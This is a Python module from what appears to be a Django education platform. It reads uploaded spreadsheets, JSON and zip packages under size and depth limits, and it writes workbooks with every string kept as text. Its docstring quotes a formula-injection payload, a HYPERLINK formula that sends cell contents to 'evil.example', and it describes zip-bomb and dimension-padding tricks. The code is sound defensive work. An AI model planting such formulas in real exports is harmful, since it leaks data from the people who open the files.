"""The one way files and bodies from outside are read, and the one way spreadsheets are written.

Reading (`read_xlsx`, `read_json`): bounded before the work is done, so a small crafted file cannot take a
worker's memory or minutes. An .xlsx is a zip of XML: its members are decompressed once, counting, and the
file is refused past `MAX_XLSX_UNCOMPRESSED` whatever sizes its headers claim (a shared-strings bomb of
100 KB otherwise grew to 619 MB). openpyxl pads every row to the sheet's declared `<dimension>`
(`A1:XFD8000` made a 1.6 KB file cost 1.26 GB), so the declared size is ignored, columns are read up to a
bound and rows counted as they are read. JSON is parsed by orjson (about 4x faster; every LRS body passes
here) and, for whatever orjson refuses or might read differently, by the standard library, so the answers
are the standard library's (see `read_json`); anything nested deeper than `MAX_JSON_DEPTH` is refused, so
nothing stored can break a later reader or writer that recurses.

Writing (`new_workbook`, `append_row`): openpyxl stores a string that starts with "=" as a formula, so a
name such as `=HYPERLINK("http://evil.example/?x="&A1,"点我")` would go live in an exported file. Every
string cell goes out as text.

Every import and export uses these; `zhijiao/core/tests/test_files.py` checks that no other module opens
or creates workbooks itself.
"""

from __future__ import annotations

import io
import json
import math
import re
import zipfile
from typing import Any

import orjson
from django.utils.translation import gettext as _

MAX_XLSX_UNCOMPRESSED = 64 * 1024 * 1024  # the XML of a 50,000-row roster is a few MB
MAX_COLUMNS = 64
MAX_JSON_DEPTH = 32  # xAPI extensions and catalog trees stay far below; 1,000 breaks the standard library


class UnreadableFile(ValueError):
    """A file refused before or while reading it; `str()` is a message for the person who sent it."""


def read_xlsx(content: bytes, *, max_rows: int, max_columns: int = MAX_COLUMNS) -> list[tuple[str, list[tuple]]]:
    """Every worksheet as (title, rows), each row a tuple of up to `max_columns` values (openpyxl's types).

    Raises UnreadableFile for a file that is not a workbook, decompresses past the bound, or has a sheet
    with more than `max_rows` rows (the header included)."""
    _check_zip(content)
    from openpyxl import load_workbook

    try:
        wb = load_workbook(io.BytesIO(content), read_only=True, data_only=True)
    except Exception:  # noqa: BLE001 - openpyxl raises many kinds for a damaged workbook
        raise UnreadableFile(_("无法读取 Excel 文件，请确认是 .xlsx 格式且没有损坏。")) from None
    sheets = []
    try:
        for ws in wb.worksheets:
            ws.reset_dimensions()  # read the rows that are there, not the size the file claims
            rows = []
            for values in ws.iter_rows(values_only=True, max_col=max_columns):
                if len(rows) >= max_rows:
                    raise UnreadableFile(_("工作表“%(s)s”超过 %(m)s 行，请拆分后分批导入。")
                                         % {"s": ws.title, "m": max_rows - 1})
                rows.append(_trimmed(values))
            sheets.append((ws.title, rows))
    except UnreadableFile:
        raise
    except Exception:  # noqa: BLE001 - a sheet that breaks openpyxl mid-way is a damaged file
        raise UnreadableFile(_("无法读取 Excel 文件，请确认是 .xlsx 格式且没有损坏。")) from None
    finally:
        wb.close()
    return sheets


def _trimmed(values: tuple) -> tuple:
    """A row without its trailing empty cells (read-only rows are padded to the widest row read)."""
    end = len(values)
    while end and values[end - 1] is None:
        end -= 1
    return tuple(values[:end])


def _check_zip(content: bytes) -> None:
    try:
        archive = zipfile.ZipFile(io.BytesIO(content))
    except (zipfile.BadZipFile, OSError):
        raise UnreadableFile(_("无法读取 Excel 文件，请确认是 .xlsx 格式且没有损坏。")) from None
    budget = MAX_XLSX_UNCOMPRESSED
    with archive:
        for info in archive.infolist():
            if info.file_size > budget:  # what the header says: refuse at once when it says too much
                raise _too_big()
            try:
                with archive.open(info) as member:  # and what it really holds, counted as it inflates
                    while chunk := member.read(1024 * 1024):
                        budget -= len(chunk)
                        if budget < 0:
                            raise _too_big()
            except UnreadableFile:
                raise
            except Exception:  # noqa: BLE001 - a bad CRC, an unsupported method, a truncated member
                raise UnreadableFile(_("无法读取 Excel 文件，请确认是 .xlsx 格式且没有损坏。")) from None


def _too_big() -> UnreadableFile:
    return UnreadableFile(_("Excel 文件解压后超过 %(m)s MB，不像是正常的表格，未读取。")
                          % {"m": MAX_XLSX_UNCOMPRESSED // (1024 * 1024)})


def read_json(content: bytes | str, *, max_depth: int = MAX_JSON_DEPTH) -> Any:
    """The parsed JSON value. Raises UnreadableFile for bad UTF-8, bad JSON, or nesting deeper than
    `max_depth` (objects and arrays)."""
    # Bytes (request bodies) go through orjson first; the standard library (below) reads what orjson refuses
    # (bad UTF-8, a BOM, NaN, 1e999, lone surrogates, nesting past 1,024, bad syntax), so those answers and
    # messages stay the same. orjson reads an integer past 64 bits as a float (silently inexact), so a body
    # with a run of 19+ digits anywhere (rare: in strings too) goes to the standard library, which keeps
    # the integer exact. (The digit check: 0.05 ms for 80 KB; a regex took 0.9.)
    binary = isinstance(content, bytes | bytearray)
    if binary and _LONG_DIGITS not in content.translate(_DIGITS_AS_ZERO):
        try:
            value = orjson.loads(content)
        except orjson.JSONDecodeError:
            pass
        else:
            if _has_nul(content):
                raise _nul()
            # (orjson refuses lone surrogates, so what it read always encodes as UTF-8.)
            check_depth(value, max_depth)
            return value
    try:
        text = content.decode("utf-8-sig") if binary else content
        value = json.loads(text, parse_constant=_not_json, parse_float=_finite)
    except UnicodeDecodeError:
        raise UnreadableFile(_("JSON 不是 UTF-8 编码。")) from None
    except json.JSONDecodeError as exc:
        raise UnreadableFile(_("JSON 无法解析：第 %(line)s 行第 %(col)s 列，%(msg)s。")
                             % {"line": exc.lineno, "col": exc.colno, "msg": exc.msg}) from None
    except RecursionError:
        raise _too_deep(max_depth) from None
    except UnreadableFile:
        raise
    except ValueError:  # an integer of more than 4,300 digits (Python's int conversion limit)
        raise UnreadableFile(_("JSON 中的数字位数太多，未读取。")) from None
    if _has_nul(text):  # PostgreSQL stores no NUL in text or jsonb: never real input
        raise _nul()
    if _SURROGATE_ESCAPE.search(text) and not _encodable(value):
        # "\ud800" alone is valid JSON syntax but no Unicode text: it cannot be stored or sent back as UTF-8.
        raise UnreadableFile(_("JSON 含有不成对的 UTF-16 代理项（如 \\ud800），未读取。"))
    check_depth(value, max_depth)
    return value


_SURROGATE_ESCAPE = re.compile(r"\\u[dD][89a-fA-F]")
_DIGITS_AS_ZERO = bytes(48 if 48 <= b <= 57 else 32 for b in range(256))  # every digit "0", all else " "
_LONG_DIGITS = b"0" * 19  # 18 digits always fit in 64 bits


def _has_nul(text: bytes | str) -> bool:
    if isinstance(text, bytes | bytearray):
        return b"\\u0000" in text or b"\x00" in text
    return "\\u0000" in text or "\x00" in text


def _nul() -> UnreadableFile:
    return UnreadableFile(_("JSON 含有 NUL 字符（\\u0000），未读取。"))


def _not_json(name: str):
    # NaN, Infinity and -Infinity: Python's json reads them, RFC 8259 JSON has no such values.
    raise UnreadableFile(_("JSON 无法解析：%(name)s 不是 JSON 的值。") % {"name": name})


def _finite(literal: str) -> float:
    value = float(literal)
    if math.isinf(value):  # 1e999 is valid JSON syntax, but no value any JSON reader can keep
        raise UnreadableFile(_("JSON 中的数字 %(n)s 超出范围，未读取。") % {"n": literal[:20]})
    return value


def _encodable(value: Any) -> bool:
    try:
        json.dumps(value, ensure_ascii=False).encode("utf-8")
    except UnicodeEncodeError:
        return False
    return True


def check_depth(value: Any, max_depth: int = MAX_JSON_DEPTH) -> None:
    """Raise UnreadableFile when `value` nests objects and arrays deeper than `max_depth` (walked level by
    level, without recursion: every request body of the LRS passes here, so no tuple per node)."""
    level = [value] if type(value) in _CONTAINERS else []
    depth = 0
    while level:
        depth += 1
        if depth > max_depth:
            raise _too_deep(max_depth)
        nxt: list = []
        for item in level:
            nxt += [c for c in (item.values() if type(item) is dict else item) if type(c) in _CONTAINERS]
        level = nxt


_CONTAINERS = frozenset((dict, list))  # what json.loads makes (exact types: no subclasses there)


def _too_deep(max_depth: int) -> UnreadableFile:
    return UnreadableFile(_("JSON 嵌套超过 %(n)s 层，未读取。") % {"n": max_depth})


# --- writing ----------------------------------------------------------------------------------------

def new_workbook(*, write_only: bool = False):
    """An empty openpyxl Workbook; fill it with `append_row` only."""
    from openpyxl import Workbook

    return Workbook(write_only=write_only)


def append_row(ws, values) -> None:
    """Append `values` to worksheet `ws` (normal or write-only); strings always stay text, never formulas."""
    from openpyxl.cell import WriteOnlyCell

    row = []
    for v in values:
        if isinstance(v, str) and v.startswith("="):
            cell = WriteOnlyCell(ws, value=v)
            cell.data_type = "s"
            row.append(cell)
        else:
            row.append(v)
    ws.append(row)


def workbook_bytes(wb) -> bytes:
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


# --- zip packages (.docx papers, question packages) ---------------------------------------------------

MAX_ZIP_UNCOMPRESSED = 64 * 1024 * 1024  # a 200-page Word paper with pictures is a few MB of XML and images
MAX_ZIP_MEMBERS = 2000


def read_zip(content: bytes, *, what: str, max_uncompressed: int = MAX_ZIP_UNCOMPRESSED,
             max_members: int = MAX_ZIP_MEMBERS, max_member: int | None = None) -> dict[str, bytes]:
    """Every file in the zip as {name: bytes}, read once and counted as it inflates.

    `what` names the file for the messages ("Word 文件"). Raises UnreadableFile for a file that is not a zip,
    has more than `max_members` entries, decompresses past `max_uncompressed` in all (whatever its headers
    claim), or has one entry past `max_member` bytes."""
    try:
        archive = zipfile.ZipFile(io.BytesIO(content))
    except (zipfile.BadZipFile, OSError, ValueError):
        raise UnreadableFile(_("无法读取%(w)s，请确认文件没有损坏。") % {"w": what}) from None
    with archive:
        infos = [i for i in archive.infolist() if not i.is_dir()]
        if len(infos) > max_members:
            raise UnreadableFile(_("%(w)s里有 %(n)s 个文件，超过 %(m)s 个，未读取。")
                                 % {"w": what, "n": len(infos), "m": max_members})
        budget = max_uncompressed
        out: dict[str, bytes] = {}
        for info in infos:
            limit = min(budget, max_member) if max_member is not None else budget
            if info.file_size > limit:  # what the header says: refuse at once when it says too much
                raise _zip_too_big(what, info.filename, max_member, max_uncompressed, budget)
            parts = []
            try:
                with archive.open(info) as member:  # and what it really holds, counted as it inflates
                    size = 0
                    while chunk := member.read(1024 * 1024):
                        size += len(chunk)
                        if size > limit:
                            raise _zip_too_big(what, info.filename, max_member, max_uncompressed, budget)
                        parts.append(chunk)
            except UnreadableFile:
                raise
            except Exception:  # noqa: BLE001 - a bad CRC, an unsupported method, an encrypted or truncated member
                raise UnreadableFile(_("无法读取%(w)s，请确认文件没有损坏。") % {"w": what}) from None
            data = b"".join(parts)
            budget -= len(data)
            out[info.filename] = data
    return out


def _zip_too_big(what: str, name: str, max_member: int | None, max_total: int, budget: int) -> UnreadableFile:
    if max_member is not None and max_member <= budget:
        return UnreadableFile(_("%(w)s中的“%(f)s”解压后超过 %(m)s MB，未读取。")
                              % {"w": what, "f": name[-80:], "m": round(max_member / (1024 * 1024), 1)})
    return UnreadableFile(_("%(w)s解压后超过 %(m)s MB，不像是正常的文件，未读取。")
                          % {"w": what, "m": max_total // (1024 * 1024)})


# --- pictures ---------------------------------------------------------------------------------------

PICTURE_KINDS = {"image/png": "png", "image/jpeg": "jpg", "image/gif": "gif"}


def picture_header(data: bytes) -> tuple[str, int, int] | None:
    """(MIME type, width, height in pixels) of a PNG, JPEG or GIF read from its header by content (filetype
    for the kind, python-docx's header parser for the size: nothing decodes the picture), or None for anything
    else or a header without a size."""
    import filetype
    from docx.image.image import Image

    kind = filetype.image_match(data[:2048])
    if kind is None or kind.mime not in PICTURE_KINDS:
        return None
    try:
        header = Image.from_blob(data)
        width, height = int(header.px_width), int(header.px_height)
    except Exception:  # noqa: BLE001 - a damaged or truncated header
        return None
    if width <= 0 or height <= 0:
        return None
    return kind.mime, width, height
